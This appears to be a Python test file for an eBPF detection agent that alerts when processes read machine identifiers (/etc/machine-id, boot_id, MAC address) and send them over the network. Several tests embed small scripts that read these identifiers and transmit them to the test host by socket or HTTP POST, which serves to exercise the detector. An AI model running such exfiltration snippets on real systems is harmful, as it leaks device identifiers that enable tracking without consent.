# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""On-demand syscall hooks: detached while nobody holds an identifier, back before anyone can use one."""
import os
import time

from idslib import (RULE_OFF_HOST as RULE, Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id,
                    needs_gate, run_py)


MAC_POLICY = """version: 1
identifiers:
  - name: mac-address
    ioctls: [SIOCGIFHWADDR]
""" + RULE

READ_AND_SEND = """
import socket, sys
value = open(sys.argv[2]).read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(("id=" + value).encode())
s.close()
"""


def bpf_links(pid):
    """The agent's open BPF links, as the kernel counts them."""
    n = 0
    for fd in os.listdir("/proc/%d/fd" % pid):
        try:
            if os.readlink("/proc/%d/fd/%s" % (pid, fd)) == "anon_inode:bpf_link":
                n += 1
        except OSError:
            pass
    return n


def hooks_state(agent, after, attached, timeout=15):
    """The first stats record after a count of records whose hooks are (or are not) attached."""
    def pred(r):
        # a detach counts once it is over (its links wait out grace periods for a second)
        return r["type"] == "stats" and r["hooks"]["syscalls_attached"] == attached and \
            not r["hooks"]["detaching"]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for r in agent.records()[after:]:
            if pred(r):
                return r
        time.sleep(0.1)
    raise AssertionError("no stats record with hooks.syscalls_attached=%s within %ss; last: %r" % (
        attached, timeout, [r for r in agent.records() if r["type"] == "stats"][-1:]))


def test_hooks_detach_when_idle_and_an_open_of_a_watched_file_brings_them_back(host):
    mid = machine_id()  # before the agent: reading it later would make this test a holder
    with Agent(policy_text=POLICY_MACHINE_ID, args=["--hooks-idle", "1", "--stats-interval", "1"]) as agent:
        ready = agent.records()[0]
        expect_eq("on-demand", ready["hooks"]["mode"], "ready.hooks.mode")
        expect_eq(True, ready["hooks"]["syscalls_attached"], "hooks attached at start")
        all_links = bpf_links(agent.proc.pid)
        idle = hooks_state(agent, 0, False)
        idle_links = bpf_links(agent.proc.pid)
        expect(all_links - idle_links >= 30, "the syscall hooks' links closed: %d of %d left" % (
            idle_links, all_links))
        mark = len(agent.records())
        # the opener waits in open() until the hooks are back: its read and send are seen
        pid, _ = run_py(READ_AND_SEND, host.addr, "/etc/machine-id")
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
        expect_eq("machine-id", a["identifiers"][0]["name"], "identifier")
        expect(mid in host.received(), "the test host received the machine-id")
        busy = hooks_state(agent, mark, True)
        expect(busy["hooks"]["wakes"] >= 1 and busy["hooks"]["attaches"] >= 1,
               "a wake and an attach counted: %r" % busy["hooks"])
        # the sender is gone: nobody holds an identifier, the hooks go again
        again = hooks_state(agent, len(agent.records()), False)
        expect(again["hooks"]["detaches"] >= idle["hooks"]["detaches"] + 1,
               "a second detach: %r" % again["hooks"])
        expect_eq(idle_links, bpf_links(agent.proc.pid), "links after the second detach")


def test_a_process_holding_a_watched_file_keeps_the_hooks(host):
    hold = """
import socket, sys, time
f = open(sys.argv[2])
time.sleep(3.5)
value = f.read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(("id=" + value).encode())
"""
    with Agent(policy_text=POLICY_MACHINE_ID, args=["--hooks-idle", "0", "--stats-interval", "1"]) as agent:
        hooks_state(agent, 0, False)
        # idle would detach within a second or two: the open fd must keep the hooks for 3.5 s
        pid, _ = run_py(hold, host.addr, "/etc/machine-id")
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
        expect_eq("machine-id", a["identifiers"][0]["name"], "identifier")


def test_ioctl_identifier_brings_the_hooks_back(host):
    code = """
import fcntl, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
r = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", sys.argv[2].encode()))
time.sleep(0.5)
c = socket.create_connection((sys.argv[1], 9000), timeout=5)
c.sendall(("id=" + r[18:24].hex()).encode())
"""
    with Agent(policy_text=MAC_POLICY, args=["--hooks-idle", "0", "--stats-interval", "1"]) as agent:
        hooks_state(agent, 0, False)
        pid, _ = run_py(code, host.addr, host.veth)
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
        expect_eq("mac-address", a["identifiers"][0]["name"], "identifier")


def test_ioctl_identifier_sent_at_once_is_confirmed(host):
    """An ioctl reply is not an open: the syscall hooks come back a few ms after it. A TCP
    connection made in that window is followed by sockops/sk_msg (always attached) instead."""
    code = """
import fcntl, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
r = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", sys.argv[2].encode()))
c = socket.create_connection((sys.argv[1], 9000), timeout=5)
c.sendall(("id=" + r[18:24].hex()).encode())
"""
    with Agent(policy_text=MAC_POLICY, args=["--hooks-idle", "0", "--stats-interval", "1"]) as agent:
        hooks_state(agent, 0, False)
        pid, _ = run_py(code, host.addr, host.veth)
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
        expect_eq("mac-address", a["identifiers"][0]["name"], "identifier")
        expect_eq(host.addr, a["destination"]["addr"], "destination.addr")
        expect_eq(9000, a["destination"]["port"], "destination.port")
        print("  sent at once: seen by %s" % a["evidence"]["call"])


def test_hooks_always_keeps_them_attached(host):
    with Agent(policy_text=POLICY_MACHINE_ID, args=["--hooks", "always", "--stats-interval", "1"]) as agent:
        expect_eq("always", agent.records()[0]["hooks"]["mode"], "ready.hooks.mode")
        links = bpf_links(agent.proc.pid)
        time.sleep(2.5)
        s = [r for r in agent.records() if r["type"] == "stats"]
        expect(s and all(r["hooks"]["syscalls_attached"] for r in s), "attached in every stats")
        expect_eq(links, bpf_links(agent.proc.pid), "links after 2.5 s")


def test_a_procfs_identifier_is_gated_by_the_open_exits_and_says_why(host):
    """fanotify cannot mark procfs files: the open exits stay attached as the gate instead, and an
    open of the file is still followed to the send."""
    needs_gate()
    policy = """version: 1
identifiers:
  - name: boot-id
    files: [/proc/sys/kernel/random/boot_id]
""" + RULE
    with Agent(policy_text=policy, args=["--stats-interval", "1"]) as agent:
        hooks = agent.records()[0]["hooks"]
        expect_eq(("on-demand", "open-exits"), (hooks["mode"], hooks.get("gate")),
                  "ready.hooks mode and gate")
        expect("/proc/sys/kernel/random/boot_id" in hooks.get("reason", ""),
               "the reason names the file: %r" % hooks)
        hooks_state(agent, 0, False)
        pid, _ = run_py(READ_AND_SEND, host.addr, "/proc/sys/kernel/random/boot_id")
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
    expect_eq("boot-id", a["identifiers"][0]["name"], "identifier")


# A parent runs a producer that reads the machine-id and prints it, reads it all, closes the pipe
# and only then sends: the parent's read is all there is to follow (the producer sends nothing).
PIPE_THEN_SEND = r"""
import os, subprocess, sys, urllib.request
out = subprocess.run(["cat", "/etc/machine-id"], stdout=subprocess.PIPE).stdout
urllib.request.urlopen("http://%s:8080/" % sys.argv[1], data=out, timeout=5).read()
print(os.getpid())
"""


def test_procfs_and_regular_files_gate_each_their_own_way(host):
    """A policy with a procfs file and a regular one: fanotify still gates the regular file (its
    opener waits in open() for the hooks), the open exits the procfs one. A pipe's reader that
    closes it before sending is followed from its first read."""
    needs_gate()
    policy = """version: 1
identifiers:
  - name: machine-id
    files: [/etc/machine-id]
  - name: boot-id
    files: [/proc/sys/kernel/random/boot_id]
""" + RULE
    with Agent(policy_text=policy, args=["--stats-interval", "1"]) as agent:
        hooks = agent.records()[0]["hooks"]
        expect_eq(("on-demand", "fanotify+open-exits"), (hooks["mode"], hooks.get("gate")),
                  "ready.hooks mode and gate")
        expect("/proc/sys/kernel/random/boot_id" in hooks.get("reason", ""),
               "the reason names the procfs file: %r" % hooks)
        hooks_state(agent, 0, False)
        pid, _ = run_py(PIPE_THEN_SEND, host.addr)
        a = agent.wait_alert(process__pid=pid, confidence="confirmed")
    expect_eq("machine-id", a["identifiers"][0]["name"], "identifier")
